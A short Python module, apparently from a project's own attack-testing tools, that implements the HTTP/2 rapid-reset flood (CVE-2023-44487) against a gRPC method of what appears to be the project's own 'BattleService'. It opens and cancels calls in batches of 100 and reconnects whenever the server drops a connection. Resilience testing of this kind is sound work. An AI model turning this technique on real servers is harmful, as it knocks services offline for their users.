"""Calls that are cancelled as soon as they are begun, over TLS (CVE-2023-44487)."""

from __future__ import annotations

import asyncio
from collections import Counter
from collections.abc import AsyncIterator
from contextlib import asynccontextmanager
from typing import Final

from tools.attacks.attack import Door, meanwhile
from tools.attacks.raw_http2 import raw_connection

_METHOD: Final = "/gcs.v1.BattleService/GetServerInfo"
_AT_ONCE: Final = 100


@asynccontextmanager
async def rapid_reset(door: Door, size: int, counts: Counter[str]) -> AsyncIterator[None]:
    """Begins and cancels up to `size` calls, with a new connection whenever the server ends one."""

    async def attack(begun: asyncio.Event) -> None:
        while counts["sent"] < size:
            async with raw_connection(door, counts, relayed=True) as connection:
                counts["connections"] += 1
                while counts["sent"] < size and await connection.flush():
                    for _ in range(_AT_ONCE):
                        connection.reset(connection.call(_METHOD, b""))
                    counts["sent"] += _AT_ONCE
                    begun.set()

    async with meanwhile(attack):
        yield
